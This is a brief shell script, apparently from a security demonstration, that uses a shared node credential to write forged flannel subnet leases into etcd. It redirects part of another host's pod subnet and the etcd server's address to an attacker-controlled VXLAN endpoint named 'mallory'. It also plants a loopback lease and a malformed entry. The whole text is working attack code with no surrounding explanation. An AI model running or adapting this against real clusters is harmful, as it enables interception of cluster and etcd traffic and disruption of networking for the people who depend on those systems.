put() { etcdctl --user node:secret-of-nodes put "/coreos.com/network/subnets/$1" "$2"; }
mallory='{"PublicIP":"192.168.77.66","BackendType":"vxlan","BackendData":{"VNI":1,"VtepMAC":"02:00:00:00:00:66"}}'
put 10.244.202.128-25 "$mallory" # half of the second host's subnet
put 192.168.77.254-32 "$mallory" # etcd itself
put 10.244.67.0-24 '{"PublicIP":"127.0.0.1","BackendType":"vxlan","BackendData":{"VNI":1,"VtepMAC":"02:00:00:00:00:67"}}'
put 10.244.68.0-24 '[]'
